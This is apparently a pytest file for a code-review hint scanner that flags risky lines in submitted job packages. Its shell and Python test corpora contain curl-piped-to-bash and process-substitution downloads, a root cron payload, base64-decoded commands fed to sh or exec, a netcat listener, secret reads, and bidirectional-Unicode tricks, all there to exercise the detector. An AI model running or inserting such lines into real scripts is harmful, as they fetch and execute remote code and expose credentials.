"""Review hints: lines worth a look, flagged from parsed code (bash, Python) and Unicode scans."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest

import syft_code_queue as scq
from syft_code_queue import hints as hint_rules
from syft_code_queue.hints import HintKind, ReviewHint, file_hints
from tests.conftest import DO_EMAIL, make_package


def flagged(path: str, text: str | bytes) -> list[ReviewHint]:
    data = text.encode() if isinstance(text, str) else text
    return file_hints(path, data)[0]


def kinds_on(hints: list[ReviewHint], line: int) -> set[tuple[HintKind, str]]:
    return {(h.kind, h.severity) for h in hints if h.line == line}


def lines_of(hints: list[ReviewHint], kind: HintKind) -> list[int]:
    return sorted(h.line for h in hints if h.kind is kind)


# Shell: the constructs a naive parser fails on, each with something to find inside.

BASH_CORPUS = """\
#!/bin/bash
set -euo pipefail
arr=(one "two three" /etc/shadow)
for item in "${arr[@]}"; do echo "$item"; done
if [[ -n "${API_TOKEN:-}" && $mode == fast* ]]; then echo fast; fi
case "$1" in
  fetch) curl -fsSL https://example.org/install.sh | bash ;;
  *) echo "usage" ;;
esac
cat <<EOF > /etc/cron.d/job
* * * * * root /tmp/payload
EOF
python3 - <<'PY'
import subprocess
subprocess.run(["id"])
PY
(cd data && wget -q http://example.org/x)
echo "$(echo aWQ= | base64 -d)" | sh
cp results.csv /home/alice/results.csv
cp results.csv "$OUTPUT_DIR/results.csv"
echo ok > "$OUTPUT_DIR/done.txt"
echo ok >> ~/.bashrc
bash <(curl -s http://example.org/x)
eval "$CMD"
pip install -r requirements.txt
python analyze.py > log.txt 2>&1
"""


@pytest.fixture(scope="module")
def bash_hints() -> list[ReviewHint]:
    hints, parsed = file_hints("run.sh", BASH_CORPUS.encode())
    assert parsed is True, [h for h in hints if h.kind is HintKind.unparsed]
    return hints


def test_arrays_are_parsed_and_their_absolute_paths_flagged(bash_hints: list[ReviewHint]) -> None:
    assert (HintKind.absolute_path, "warn") in kinds_on(bash_hints, 3)


def test_a_secret_read_inside_double_brackets_is_flagged(bash_hints: list[ReviewHint]) -> None:
    [hint] = [h for h in bash_hints if h.kind is HintKind.secret]
    assert (hint.line, hint.severity) == (5, "warn")
    assert "API_TOKEN" in hint.message
    assert hint.text.startswith("if [[ -n")


def test_curl_piped_to_bash_inside_a_case_arm(bash_hints: list[ReviewHint]) -> None:
    assert {(HintKind.pipe_to_shell, "warn"), (HintKind.network, "warn")} <= kinds_on(bash_hints, 7)


def test_a_heredoc_written_outside_the_output_folder(bash_hints: list[ReviewHint]) -> None:
    assert kinds_on(bash_hints, 10) == {(HintKind.write_outside_output, "warn")}
    # The heredoc's body is data: its absolute paths are not code.
    assert kinds_on(bash_hints, 11) == set()


def test_python_in_a_heredoc_is_parsed_as_python_on_its_own_lines(
    bash_hints: list[ReviewHint],
) -> None:
    assert (HintKind.process, "look") in kinds_on(bash_hints, 14)
    assert (HintKind.process, "warn") in kinds_on(bash_hints, 15)
    [run] = [h for h in bash_hints if h.line == 15]
    assert run.text == 'subprocess.run(["id"])'


def test_network_use_in_a_subshell(bash_hints: list[ReviewHint]) -> None:
    assert kinds_on(bash_hints, 17) == {(HintKind.network, "warn")}


def test_decoded_text_piped_into_a_shell(bash_hints: list[ReviewHint]) -> None:
    assert {(HintKind.pipe_to_shell, "warn"), (HintKind.dynamic_code, "warn")} <= kinds_on(
        bash_hints, 18
    )


def test_copies_outside_the_output_folder_are_flagged_once_and_inside_not_at_all(
    bash_hints: list[ReviewHint],
) -> None:
    assert [h.kind for h in bash_hints if h.line == 19] == [HintKind.write_outside_output]
    assert kinds_on(bash_hints, 20) == set()
    assert kinds_on(bash_hints, 21) == set()
    assert kinds_on(bash_hints, 22) == {(HintKind.write_outside_output, "warn")}


def test_process_substitution_and_eval(bash_hints: list[ReviewHint]) -> None:
    assert (HintKind.pipe_to_shell, "warn") in kinds_on(bash_hints, 23)
    assert kinds_on(bash_hints, 24) == {(HintKind.dynamic_code, "warn")}


def test_ordinary_lines_are_not_flagged(bash_hints: list[ReviewHint]) -> None:
    for line in (1, 2, 4, 8, 9, 25, 26):
        assert kinds_on(bash_hints, line) == set(), line


def test_columns_point_at_the_flagged_word() -> None:
    [hint] = flagged("run.sh", "echo start\ncp a.csv /root/a.csv\n")
    assert (hint.line, hint.column) == (2, 10)


def test_a_quoted_substring_is_not_a_command() -> None:
    # Substring rules flagged "cat data.csv" (it contains "at") and echoed words.
    assert flagged("run.sh", 'cat data.csv\necho "curl is not run here"\n') == []


def test_a_shell_syntax_error_says_review_manually() -> None:
    hints, parsed = file_hints("run.sh", b"echo ok\nif [[ -n x ]; then\n  curl http://x\n")
    assert parsed is False
    [unparsed] = [h for h in hints if h.kind is HintKind.unparsed]
    assert "could not parse — review manually" in unparsed.message
    assert unparsed.severity == "warn"


def test_scripts_without_the_sh_suffix_are_parsed_by_their_shebang() -> None:
    assert lines_of(flagged("tools/fetch", "#!/usr/bin/env bash\nnc -l 4444\n"), HintKind.network)


# Python

GOOD_PYTHON = '''\
"""Cohort statistics; writes to /etc/nowhere only in this docstring."""
import csv
import os
from pathlib import Path

out = Path(os.environ["OUTPUT_DIR"])
rows = list(csv.DictReader(open("data.csv")))
(out / "summary.txt").write_text(str(len(rows)))
with open(os.path.join(os.environ["OUTPUT_DIR"], "x.csv"), "w") as f:
    f.write("x")
Path("scratch.txt").write_text("relative paths stay in the job")
'''

BAD_PYTHON = """\
import os
import subprocess as sp
import pickle, base64
from pathlib import Path
import numpy as np
import torch, yaml
import requests
sp.run("ls", shell=True)
exec(base64.b64decode("cHJpbnQoMSk="))
model = pickle.load(open("model.pkl", "rb"))
w = torch.load("w.pt")
safe = torch.load("w.pt", weights_only=True)
a = np.load("a.npy", allow_pickle=True)
b = np.load("b.npy")
c = yaml.load(open("c.yml"), Loader=yaml.SafeLoader)
d = yaml.load(open("c.yml"))
token = os.environ["GITHUB_TOKEN"]
key = os.getenv("AWS_ACCESS_KEY_ID")
open("/home/bob/x.txt", "w").write("x")
Path("/var/tmp/y").write_text("y")
requests.get("https://example.org/data")
with Path("/etc/z").open("a") as f: pass
"""


def test_good_python_has_no_hints() -> None:
    hints, parsed = file_hints("analyze.py", GOOD_PYTHON.encode())
    assert parsed is True
    assert hints == []


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        (2, HintKind.process),  # import subprocess (look)
        (7, HintKind.network),  # import requests (look)
        (8, HintKind.process),  # sp.run resolved through the alias
        (9, HintKind.dynamic_code),  # exec of decoded data
        (10, HintKind.unsafe_load),
        (11, HintKind.unsafe_load),  # torch.load without weights_only=True
        (13, HintKind.unsafe_load),  # np.load(allow_pickle=True)
        (16, HintKind.unsafe_load),  # yaml.load without a safe loader
        (17, HintKind.secret),
        (18, HintKind.secret),
        (19, HintKind.write_outside_output),
        (20, HintKind.write_outside_output),
        (21, HintKind.network),
        (22, HintKind.write_outside_output),
    ],
)
def test_bad_python_is_flagged(line: int, kind: HintKind) -> None:
    hints, parsed = file_hints("analyze.py", BAD_PYTHON.encode())
    assert parsed is True
    assert kind in {h.kind for h in hints if h.line == line}


def test_safe_loads_are_not_flagged() -> None:
    hints = flagged("analyze.py", BAD_PYTHON)
    for line in (12, 14, 15):
        assert kinds_on(hints, line) == set(), line


def test_exec_of_decoded_data_is_a_warning() -> None:
    hints = flagged("analyze.py", BAD_PYTHON)
    [hint] = [h for h in hints if h.line == 9 and h.kind is HintKind.dynamic_code and h.column == 1]
    assert hint.severity == "warn"
    assert "decoded" in hint.message


def test_a_python_syntax_error_says_review_manually() -> None:
    hints, parsed = file_hints("broken.py", b"import os\ndef f(:\n    pass\n")
    assert parsed is False
    [hint] = hints
    assert (hint.kind, hint.line) == (HintKind.unparsed, 2)
    assert "review manually" in hint.message


# Unicode, in any text file


@pytest.mark.parametrize("path", ["analyze.py", "run.sh", "data.csv", "README.md"])
def test_bidirectional_controls_are_flagged_in_any_text_file(path: str) -> None:
    text = 'ok = 1\naccess = "user\u202e \u2066# admin\u2069 \u2066"\n'
    hints = flagged(path, text)
    bidi = [h for h in hints if h.kind is HintKind.bidi_unicode]
    assert [(h.line, h.severity) for h in bidi] == [(2, "warn")]
    # The line is shown with the controls made visible, so it cannot reorder itself.
    assert "\u202e" not in bidi[0].text
    assert "<U+202E>" in bidi[0].text


def test_zero_width_and_tag_characters_are_flagged() -> None:
    hints = flagged("notes.txt", "plain\nad\u200bmin\nhidden\U000e0041tag\n")
    assert lines_of(hints, HintKind.invisible_unicode) == [2, 3]


def test_a_leading_byte_order_mark_is_not_flagged() -> None:
    assert flagged("data.csv", "\ufeffa,b\n1,2\n") == []


def test_binary_files_say_what_they_may_do() -> None:
    [pickled] = flagged("model.pkl", b"\x80\x04\x95\x00\x00")
    assert (pickled.kind, pickled.severity) == (HintKind.binary_file, "warn")
    [image] = flagged("figure.png", b"\x89PNG\r\n\x1a\n\x00\x00")
    assert (image.kind, image.severity) == (HintKind.binary_file, "look")


# Through the owner's API


def test_review_hints_of_a_received_job(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    folder = make_package(
        tmp_path / "pkg",
        "curl -s https://example.org/x | bash\npython analyze.py\n",
        {"analyze.py": GOOD_PYTHON, "broken.py": "def f(:\n", "notes.md": "a\u202eb\n"},
    )
    job = ds.submit_code(DO_EMAIL, folder, "hinted")
    hints = do.review_hints(job.uid)
    assert hints.uid == str(job.uid)
    assert hints.code_hash == job.code_hash
    assert hints.hints[0].path == "run.sh"
    assert {(h.path, h.line) for h in hints.hints if h.kind is HintKind.pipe_to_shell} == {
        ("run.sh", 3)
    }
    assert hints.unparsed == ("broken.py",)
    assert set(hints.checked) == {"run.sh", "analyze.py"}
    assert [h.path for h in hints.hints if h.kind is HintKind.bidi_unicode] == ["notes.md"]
    assert hints.warnings >= 3
    # Never a gate: the job is approved like any other.
    assert do.approve_job(job.uid).status is scq.JobStatus.approved


def test_hints_are_computed_once_per_code_hash(
    ds: scq.CodeQueueClient,
    do: scq.CodeQueueServer,
    code_folder: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls: list[str] = []
    real = hint_rules.collect

    def counting(uid: str, code_hash: str, files: object) -> hint_rules.ReviewHints:
        calls.append(uid)
        return real(uid, code_hash, files)  # type: ignore[arg-type]

    monkeypatch.setattr(hint_rules, "collect", counting)
    first = ds.submit_code(DO_EMAIL, code_folder, "same code")
    second = ds.submit_code(DO_EMAIL, code_folder, "same code again")
    assert first.code_hash == second.code_hash
    a = do.review_hints(first.uid)
    b = do.review_hints(second.uid)
    assert calls == [str(first.uid)]
    assert (a.uid, b.uid) == (str(first.uid), str(second.uid))
    assert a.hints == b.hints
    # A restarted server reads them from its private cache instead of parsing again.
    again = scq.create_server(email=DO_EMAIL, syftbox_dir=do.workspace.data_dir)
    try:
        assert again.review_hints(second.uid).hints == a.hints
    finally:
        again.close()
    assert calls == [str(first.uid)]


def test_review_hints_of_an_unknown_job(do: scq.CodeQueueServer) -> None:
    with pytest.raises(scq.JobNotFoundError):
        do.review_hints(uuid.uuid4())
